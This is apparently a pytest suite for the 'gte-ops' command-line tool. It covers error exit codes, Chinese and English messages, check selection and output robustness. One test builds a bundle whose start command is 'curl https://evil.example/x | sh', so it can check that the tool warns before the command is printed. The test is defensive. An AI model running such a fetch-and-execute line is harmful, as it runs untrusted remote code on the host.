"""The command line: parse, call, render. Misuse and the tool's own trouble are one line and exit code 3."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import click
import pytest
from msgspec.structs import replace
from rich.cells import cell_len

import ops.cli.main
import ops.doctor
from ops import __version__
from ops.diagnosis.catalogue import catalogue
from ops.diagnosis.checks import CHECKS
from ops.diagnosis.engine import diagnose
from ops.doctor import Examination, chosen_checks
from ops.errors import OpsError, UsageError
from ops.facts.bundle import write_bundle
from ops.facts.target import Target
from tests.unit.made_snapshot import HEALTHY, but, without_gunicorn

Run = Callable[..., tuple[int, str, str]]
ROOT = Path(ops.cli.main.__file__).parents[2]
PROGRAM = (sys.executable, str(ROOT / "gte_ops.py"))


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> Run:
    """Run the command in an empty directory: exit code, standard output, standard error."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GTE_OPS_CONFIG", raising=False)
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    # A machine that has the system-wide file must not change these tests.
    monkeypatch.setattr("ops.settings.file.SEARCH_PATH", ("./gte-ops.toml",))

    def command(*args: str) -> tuple[int, str, str]:
        monkeypatch.setattr(sys, "argv", ["gte-ops", *args])
        with pytest.raises(SystemExit) as ended:
            ops.cli.main.main()
        out, err = capsys.readouterr()
        return int(ended.value.code or 0), out, err

    return command


@pytest.fixture
def examined(monkeypatch: pytest.MonkeyPatch) -> dict[str, object]:
    """The doctor looks at a made host without gunicorn; what it was asked for is kept here."""
    asked: dict[str, object] = {}

    def examine(settings: object, **options: object) -> Examination:
        asked.update(options, settings=settings)
        return Examination(without_gunicorn(), diagnose(without_gunicorn(), CHECKS))

    monkeypatch.setattr(ops.doctor, "examine", examine)
    return asked


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["doctr"], "doctr"),
        (["doctor", "--nonsense"], "--nonsense"),
        (["doctor", "--format", "xml"], "xml"),
        (["doctor", "--lang", "fr"], "fr"),
        (["doctor", "--since", "soon"], "'soon' is not a duration"),
        (["doctor", "--since"], "--since"),
        (["doctor", "--budget", "0s"], "choose between 1s and 5m"),
        (["doctor", "--budget", "1h"], "choose between 1s and 5m"),
        (["doctor", "--config", "/no/such.toml"], "/no/such.toml: no such file (named by --config)"),
        (["doctor", "--only", "GUN999"], "'GUN999'"),
        (["doctor", "--skip", "tsl"], "'tsl'"),
        (["doctor", "unexpected"], "unexpected"),
        (["doctor", "--from-bundle", "/no/such.json"], "/no/such.json: cannot be read: No such file"),
        (
            ["doctor", "--from-bundle", "x", "--bundle", "y"],
            "--from-bundle looks at no host: leave out --bundle",
        ),
        (["doctor", "--watch", "5s", "--wait-ok", "1m"], "--watch and --wait-ok do not go together"),
        (["doctor", "--watch", "5s", "--format", "json"], "--watch takes 1s or more, and shows text"),
        (["doctor", "--hide-clients"], "add --bundle FILE"),
        (["explain", "GUN999"], "GUN999"),
    ],
)
def test_misuse_is_one_line_on_standard_error_and_exits_3(run: Run, args: list[str], words: str) -> None:
    code, out, err = run(*args)
    assert code == 3
    # Who asked for a format that exists reads the error in it; everybody else nothing.
    assert (json.loads(out)["error"]["kind"] == "usage") if "json" in args else (out == "")
    assert words in err
    assert err.startswith("gte-ops: ")
    assert err.count("\n") == 1
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["doctorr"], "没有命令 'doctorr'。是否指 'doctor'？（见 gte-ops --help）"),
        (["doctor", "--nonsense"], "没有选项 '--nonsense'。（见 gte-ops doctor --help）"),
        (["doctor", "--since", "soon"], "'--since' 的值无效：'soon' 不是时长；写法如 10s、15m、36h 或 7d"),
        (
            ["doctor", "--budget", "1h"],
            "--budget 或 doctor.budget：须在 1s 与 5m 之间（见 gte-ops doctor --help）",
        ),
        (
            ["doctor", "--config", "/no/such.toml"],
            "/no/such.toml：文件不存在（由 --config 指定）；请检查路径",
        ),
        (["doctor", "--only", "GUN999"], "没有名为 'GUN999' 的检查项或故障代码"),
        (
            ["doctor", "--from-bundle", "/no/such.json"],
            "/no/such.json：无法读取：文件或目录不存在；请检查路径及其权限",
        ),
        (["doctor", "--watch", "5s", "--wait-ok", "1m"], "--watch 与 --wait-ok 不能同时使用：请选择一个"),
        (["explain", "GUN999"], "目录中没有故障代码 'GUN999'"),
        (["watchdog", "pause", "9d"], "DURATION：须大于 0，且不超过 7d"),
        (["backup", "restore"], "没有可供询问的终端"),
        (["cert", "check", "smtp://"], "不是有效的端点"),
    ],
)
def test_a_chinese_reader_reads_errors_in_chinese(run: Run, args: list[str], words: str) -> None:
    code, _, err = run(*args, "--lang", "zh")
    assert code == 3
    assert words in err


def test_an_error_in_a_report_is_in_the_reader_s_language(run: Run) -> None:
    Path("gte-ops.toml").write_text('[target]\ndomian = "x"\n')
    for language, words in (
        ("en", "gte-ops.toml: unknown key target.domian; did you mean target.domain?"),
        ("zh", "gte-ops.toml：未知的键 target.domian；是否指 target.domain？"),
    ):
        _, out, err = run("doctor", "--format", "json", "--lang", language)
        assert json.loads(out)["error"]["message"] == words
        assert words in err


def test_a_configuration_that_cannot_be_used_is_one_line(run: Run) -> None:
    Path("gte-ops.toml").write_text('[target]\ndomian = "\\u001b[31mx"\n')
    code, out, err = run("doctor")
    assert (code, out) == (3, "")
    assert err == "gte-ops: gte-ops.toml: unknown key target.domian; did you mean target.domain?\n"


@pytest.mark.parametrize("form", ["text", "json", "nagios", "html", "junit"])
def test_the_exit_code_is_the_diagnosis_s_whatever_the_format(
    run: Run, examined: dict[str, object], form: str
) -> None:
    code, out, err = run("doctor", "--format", form)
    assert (code, err) == (2, "")
    assert "GUN001" in out
    assert examined["since"] == 900


def test_options_go_before_the_file_and_the_file_before_the_defaults(
    run: Run, examined: dict[str, object]
) -> None:
    Path("gte-ops.toml").write_text('[doctor]\nsince = "1h"\nbudget = "20s"\n')
    run("doctor", "--since", "2h", "--only", "tls, GUN001 ,", "--skip", "net")
    assert (examined["since"], examined["budget"]) == (7200, 20)
    assert (examined["only"], examined["skip"]) == (("tls", "GUN001"), ("net",))


def test_waiting_ends_as_soon_as_nothing_fails(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """With --wait-ok the last report is the one that is shown, and its exit code the command's."""
    monkeypatch.setattr(ops.doctor, "BETWEEN_LOOKS", 0.01)
    looks = iter([without_gunicorn(), without_gunicorn(), HEALTHY])
    monkeypatch.setattr(ops.doctor, "collect", lambda *_, **__: next(looks))
    code, out, _ = run("doctor", "--wait-ok", "1m")
    assert (code, next(looks, None)) == (0, None)
    assert out.startswith("OK")


def test_waiting_ends_with_its_time(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ops.doctor, "collect", lambda *_, **__: without_gunicorn())
    code, out, _ = run("doctor", "--wait-ok", "0.2s")
    assert code == 2
    assert "GUN001" in out


def test_watching_reports_again_until_interrupted(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    looks = iter([without_gunicorn(), HEALTHY])

    def collect(*_: object, **__: object) -> object:
        try:
            return next(looks)
        except StopIteration:
            raise KeyboardInterrupt from None

    monkeypatch.setattr(ops.doctor, "collect", collect)
    monkeypatch.setattr("time.sleep", lambda _: None)
    code, out, err = run("doctor", "--watch", "5s")
    assert (code, err.strip()) == (130, "")
    assert out.index("GUN001") < out.index("OK  ")
    assert "\x1b" not in out


@pytest.mark.parametrize(
    ("option", "locale", "chinese"), [("zh", "C", True), ("en", "zh_CN", False), (None, "zh_CN", True)]
)
def test_the_language_is_the_option_s_else_the_locale_s(
    run: Run,
    examined: dict[str, object],
    monkeypatch: pytest.MonkeyPatch,
    option: str | None,
    locale: str,
    chinese: bool,
) -> None:
    monkeypatch.setenv("LC_ALL", locale)
    _, out, _ = run("doctor", *(("--lang", option) if option else ()))
    assert ("没有运行" in out) is chinese
    assert examined


@pytest.mark.parametrize("command", [[], ["doctor"], ["explain"]])
def test_help_shows_an_example_and_exits_0(run: Run, command: list[str]) -> None:
    code, out, err = run(*command, "--help")
    assert (code, err) == (0, "")
    assert "Example:" in out
    assert f"gte-ops {' '.join(command)}".strip() in out


def test_explain_without_a_code_lists_every_cause(run: Run) -> None:
    code, out, _ = run("explain", "--lang", "zh")
    assert code == 0
    titles = [f"{known}  {catalogue().entry(known).title.zh}" for known in catalogue().codes]
    assert out.splitlines() == titles


@pytest.mark.parametrize(
    ("shell", "typed", "row"),
    [
        ("bash", {"COMP_CWORD": "2"}, "plain,GUN001"),
        ("zsh", {"COMP_CWORD": "2"}, "plain\nGUN001\ngunicorn is not running"),
        ("fish", {"COMP_CWORD": "gun00"}, "plain,GUN001\tgunicorn is not running"),
    ],
)
def test_shells_complete_the_codes(
    run: Run, monkeypatch: pytest.MonkeyPatch, shell: str, typed: dict[str, str], row: str
) -> None:
    for name, value in {
        "_GTE_OPS_COMPLETE": f"{shell}_complete",
        "COMP_WORDS": "gte-ops explain gun00",
        **typed,
    }.items():
        monkeypatch.setenv(name, value)
    code, out, _ = run()
    assert code == 0
    assert row in out
    assert "TLS" not in out


def test_explain_tells_of_a_cause(run: Run) -> None:
    code, out, _ = run("explain", "GUN001", "--lang", "en")
    assert code == 0
    assert "gunicorn is not running" in out


@pytest.mark.parametrize(
    ("error", "code", "words"),
    [
        (OpsError("the disk is full; free some"), 3, "the disk is full; free some"),
        (UsageError("no check is called \x1b[31mx"), 3, "no check is called x"),
        (ZeroDivisionError("division by zero"), 3, "ZeroDivisionError: division by zero"),
        (OSError(28, "No space left on device"), 3, "No space left on device"),
    ],
)
def test_the_tool_s_own_trouble_is_one_line_and_unknown_never_a_warning(
    run: Run, monkeypatch: pytest.MonkeyPatch, error: Exception, code: int, words: str
) -> None:
    def fails(*_args: object, **_options: object) -> Examination:
        raise error

    monkeypatch.setattr(ops.doctor, "examine", fails)
    exit_code, out, err = run("doctor")
    assert (exit_code, out) == (code, "")
    assert words in err
    assert err.count("\n") == 1
    assert "\x1b" not in err


def test_a_defect_is_reported_in_chinese_too(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_args: object, **_options: object) -> Examination:
        raise ZeroDivisionError("division by zero")

    monkeypatch.setattr(ops.doctor, "examine", fails)
    code, _, err = run("doctor", "--lang", "zh")
    assert code == 3
    assert "ZeroDivisionError: division by zero；未作任何判断，请反馈这一行" in err


def test_a_configuration_that_is_passed_over_is_named_in_chinese_too(
    run: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "gte-ops.toml").write_text("")
    (tmp_path / "gte-ops.toml").chmod(0o666)
    _, _, err = run("config", "show", "--lang", "zh")
    place = tmp_path / "gte-ops.toml"
    assert err == f"gte-ops: 没有读取 {place}：任何人都可以写 {place}\n"


def test_an_interrupt_in_json_is_told_in_chinese_too(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_args: object, **_options: object) -> Examination:
        raise KeyboardInterrupt

    monkeypatch.setattr(ops.doctor, "examine", fails)
    code, out, _ = run("doctor", "--format", "json", "--lang", "zh")
    assert code == 130
    assert json.loads(out)["error"]["message"] == "已中断"


@pytest.mark.parametrize("error", [KeyboardInterrupt(), click.exceptions.Abort()])
def test_an_interrupt_is_silent(run: Run, monkeypatch: pytest.MonkeyPatch, error: BaseException) -> None:
    def fails(*_args: object, **_options: object) -> Examination:
        raise error

    monkeypatch.setattr(ops.doctor, "examine", fails)
    code, out, err = run("doctor")
    assert (code, out, err.strip()) == (130, "", "")


def test_the_version_is_told_without_the_heavy_libraries_and_without_any_command() -> None:
    libraries = ("cryptography", "psutil", "rich", "dns", "crossplane", "msgspec", "requests")
    heavy = (*libraries, *(f"ops.cli.{name}" for name in ops.cli.main.COMMANDS))
    program = f"""import sys
from ops.cli.main import main
try:
    sys.argv = ["gte-ops", "--version"]
    main()
except SystemExit as end:
    print(end.code, [name for name in {heavy!r} if name in sys.modules])
"""
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True, cwd=ROOT
    )
    assert done.stdout.splitlines() == [f"gte-ops {__version__}", "0 []"]


# --- Which checks ---


def ids(only: tuple[str, ...] = (), skip: tuple[str, ...] = ()) -> list[str]:
    return [check.id for check in chosen_checks(only, skip)]


def test_without_a_choice_every_check_runs() -> None:
    assert chosen_checks((), ()) == CHECKS


def test_a_check_is_chosen_by_its_id_its_layer_or_a_code() -> None:
    assert ids(only=("tls.dates",)) == ["tls.dates"]
    assert ids(only=("GUN001",)) == ["gunicorn.process"]
    assert ids(only=("dns",)) == ["dns.resolution", "dns.address", "dns.literal"]
    assert ids(only=("dns", "TLS004")) == ["dns.resolution", "dns.address", "dns.literal", "tls.name"]


def test_a_code_chooses_that_one_cause_of_its_check() -> None:
    (dates,) = chosen_checks(("TLS002",), ())
    assert dates.codes == ("TLS002",)
    expired = but(taken_at=HEALTHY.served.chain[0].not_after + 1)
    assert list(dates.judge(**dates.inputs(expired))) == []
    (rest,) = (c for c in chosen_checks((), ("TLS002",)) if c.id == "tls.dates")
    assert [finding.code for finding in rest.judge(**rest.inputs(expired))] == ["TLS001"]


def test_what_is_skipped_is_left_out_of_what_was_chosen() -> None:
    assert ids(only=("dns",), skip=("DNS001",)) == ["dns.address", "dns.literal"]
    assert [i for i in ids(skip=("tls",)) if i.startswith("tls.")] == []
    assert ids(only=("dns",), skip=("dns",)) == []


@pytest.mark.parametrize(
    ("selector", "words"),
    [
        ("GUN0O1", "GUN001"),
        ("tls.date", "tls.dates"),
        ("t", "layers: dns, net, tls"),
        ("DNS", "dns"),
        ("tl", "layers"),
    ],
)
def test_an_unknown_id_is_refused_with_the_nearest(selector: str, words: str) -> None:
    for only, skip in (((selector,), ()), ((), (selector,))):
        with pytest.raises(UsageError) as refusal:
            chosen_checks(only, skip)
        assert repr(selector) in str(refusal.value)
        assert words.lower() in str(refusal.value).lower()


def test_a_command_of_every_name_is_there() -> None:
    commands = ops.cli.main.commands.commands
    assert tuple(commands) == ops.cli.main.COMMANDS
    assert [command.name for command in commands.values()] == list(commands)


def test_the_made_host_is_whole() -> None:
    assert diagnose(HEALTHY, chosen_checks((), ())).exit_code == 0


# --- Errors in the format that was asked for ---


def leaves() -> list[tuple[str, ...]]:
    """Every command that reads the configuration and reports."""
    paths: list[tuple[str, ...]] = []
    for name, command in ops.cli.main.commands.commands.items():
        children = command.commands if isinstance(command, click.Group) else {}
        paths += [(name, child) for child in children] or [(name,)]
    others = (("explain",), ("uninstall",), ("config", "schema"), ("config", "sample"))
    return [words for words in paths if words not in others]


@pytest.mark.parametrize("words", leaves(), ids=" ".join)
def test_an_error_of_every_command_is_one_document_with_the_exit_code(
    run: Run, words: tuple[str, ...]
) -> None:
    needed = {
        ("watchdog", "pause"): ("5m",),
        ("render",): ("nginx",),
        ("route",): ("/health",),
        ("deploy", "drain"): ("127.0.0.1:8000",),
        ("deploy", "undrain"): ("127.0.0.1:8000",),
        ("backup", "pin"): ("a.tar.zst",),
        ("backup", "unpin"): ("a.tar.zst",),
        ("causes", "test"): ("licence.toml",),
    }.get(words, ())
    yes = ("--yes",) if words == ("backup", "restore") else ()
    code, out, err = run(*words, *needed, *yes, "--format", "json", "--config", "/no/such.toml")
    document = json.loads(out)
    assert (document["schema_version"], document["status"]) == (1, "unknown")
    assert document["error"]["exit_code"] == code == 3
    assert document["error"]["kind"] == "settings"
    assert document["error"]["message"] in err


def test_an_unknown_code_is_a_document_too(run: Run) -> None:
    code, out, _ = run("explain", "GUN999", "--format", "json")
    assert (code, json.loads(out)["error"]["exit_code"]) == (3, 3)


@pytest.mark.parametrize(
    "words", [("--lang", "zh", "doctor"), ("doctor", "--lang", "zh"), ("--lang=zh", "backup")]
)
def test_help_is_chinese_for_who_reads_chinese(run: Run, words: tuple[str, ...]) -> None:
    code, out, _ = run(*words, "--help")
    assert code == 0
    assert out.startswith("用法：")
    for english in ("Options:", "Usage:", "Show this", "Language of", "Read this"):
        assert english not in out


def all_commands(group: click.Group, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """Every command and group below ``group``, as they are typed."""
    context = click.Context(group)
    for name in group.list_commands(context):
        command = group.get_command(context, name)
        yield (*path, name)
        if isinstance(command, click.Group):
            yield from all_commands(command, (*path, name))


def test_every_command_and_group_takes_the_language(run: Run) -> None:
    commands = list(all_commands(ops.cli.main.commands))
    assert {("service",), ("service", "stop"), ("cert", "check"), ("version",)} <= set(commands)
    answers = {words: run(*words, "--lang", "zh", "--help") for words in commands}
    assert [words for words, (code, out, _) in answers.items() if code or not out.startswith("用法：")] == []


def test_a_group_s_language_is_that_of_its_command(run: Run) -> None:
    assert run("config", "--lang", "zh", "check")[1] == run("config", "check", "--lang", "zh")[1]


def test_the_chinese_list_of_commands_has_whole_sentences(run: Run) -> None:
    _, out, _ = run("--lang", "zh", "--help")
    commands = re.split(r"\n  (?=\S)", out.partition("命令：\n")[2])
    assert len(commands) > 20
    assert [words for words in commands if not words.rstrip().endswith("。")] == []
    assert "[OPTIONS]" not in out


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        (("causes",), "gte-ops explain"),
        (("cert", "check"), "2 严重"),
        (("route",), "不写 METHOD"),
        (("preflight",), "0 全部确认"),
    ],
)
def test_a_line_s_end_in_a_chinese_help_text_is_a_blank_beside_latin_letters(
    run: Run, words: tuple[str, ...], shown: str
) -> None:
    assert shown in " ".join(run("--lang", "zh", *words, "--help")[1].split())


@pytest.mark.parametrize("command", ["list", "show", "diff"])
@pytest.mark.parametrize("writable", ["state-baselines", "state-baselines/states"])
def test_a_baseline_that_others_could_have_written_is_not_shown(
    run: Run, tmp_path: Path, command: str, writable: str
) -> None:
    states = tmp_path / "state-baselines" / "states"
    states.mkdir(parents=True)
    (tmp_path / writable).chmod(0o777)
    (tmp_path / "gte-ops.toml").write_text(f'[watchdog]\nstate_file = "{tmp_path}/state.json"\n')
    code, out, err = run("baseline", command)
    assert (code, out) == (3, "")
    assert "not used for baselines: everybody may write" in err


def test_the_usage_of_baseline_diff_says_that_both_numbers_may_be_left_out(run: Run) -> None:
    assert "[FROM] [TO]" in run("baseline", "diff", "--help")[1]


@pytest.mark.parametrize("words", [(), ("doctor",), ("backup", "restore"), ("watchdog",)])
def test_no_option_s_chinese_help_is_wider_than_60_columns(
    run: Run, monkeypatch: pytest.MonkeyPatch, words: tuple[str, ...]
) -> None:
    monkeypatch.setenv("COLUMNS", "60")
    out = run(*words, "--help", "--lang", "zh")[1]
    table = out.partition("选项：")[2]
    assert table
    assert [line for line in table.splitlines() if cell_len(line) > 60] == []


@pytest.mark.parametrize("language", ["en", "zh"])
def test_no_row_of_the_options_is_without_words(run: Run, language: str) -> None:
    out = run("backup", "restore", "--help", "--lang", language)[1]
    assert "[ARCHIVE] [PATH]...\n" in out
    assert "  [ARCHIVE]\n" not in out
    assert not [line for line in out.splitlines() if line != line.rstrip()]


def test_a_report_that_nobody_reads_any_more_is_no_verdict() -> None:
    """128 + SIGPIPE, as of any program before a closed pipe: 1 would read as a warning, 0 as health."""
    reading, writing = os.pipe()
    os.close(reading)
    ran = subprocess.run(
        [sys.executable, "-m", "ops.cli", "explain"], stdout=writing, stderr=subprocess.PIPE, check=False
    )
    os.close(writing)
    assert (ran.returncode, ran.stderr) == (141, b"")


@pytest.mark.parametrize(
    "words",
    [
        ("explain", "GUN001"),
        ("config", "sample"),
        ("--help",),
        ("--version",),
        ("explain", "--format", "json"),
    ],
)
@pytest.mark.parametrize("unbuffered", [False, True])
def test_a_report_that_does_not_fit_on_the_disk_is_no_verdict(
    words: tuple[str, ...], unbuffered: bool
) -> None:
    environment = {**os.environ, "LC_ALL": "C.UTF-8", "PYTHONUNBUFFERED": "1" if unbuffered else ""}
    with Path("/dev/full").open("w") as full:
        ran = subprocess.run(
            [*PROGRAM, *words], stdout=full, stderr=subprocess.PIPE, env=environment, check=False
        )
    assert ran.returncode == 3
    assert ran.stderr == b"gte-ops: cannot write the output: No space left on device; it is incomplete\n"


@pytest.mark.parametrize(
    ("language", "words"), [("en", "read one before you run it"), ("zh", "运行前请先看清楚")]
)
def test_a_bundles_commands_are_announced_as_the_bundles(
    run: Run, tmp_path: Path, language: str, words: str
) -> None:
    """Whoever made the bundle chose the start command that the fix prints."""
    snapshot = without_gunicorn()
    assert isinstance(snapshot.target, Target)
    target = replace(snapshot.target, start_command="curl https://evil.example/x | sh")
    write_bundle(tmp_path / "b.json", replace(snapshot, target=target), ())
    command = ("doctor", "--from-bundle", str(tmp_path / "b.json"), "--lang", language)
    code, out, err = run(*command)
    assert code == 2
    assert "curl https://evil.example/x | sh" in out
    assert words in err
    _, out, err = run(*command, "--format", "json")
    assert json.loads(out)
    assert err == ""


@pytest.mark.parametrize("closed", [0, 1, 2])
def test_a_closed_standard_stream_leaves_the_verdict_as_it_is(closed: int, tmp_path: Path) -> None:
    """And nothing that this program opens takes the stream's number, where what is printed would end."""
    bundle = tmp_path / "nothing"
    script = "import os, sys; os.close(int(sys.argv[1])); os.execv(sys.executable, [sys.executable, *sys.argv[2:]])"
    program = [sys.executable, "-c", script, str(closed), *PROGRAM[1:]]
    ran = subprocess.run([*program, "explain", "GUN001"], capture_output=True, check=False)
    assert (ran.returncode, ran.stderr) == (0, b"")
    ran = subprocess.run([*program, "doctor", "--from-bundle", str(bundle)], capture_output=True, check=False)
    assert ran.returncode == 3
    assert b"Traceback" not in ran.stdout + ran.stderr
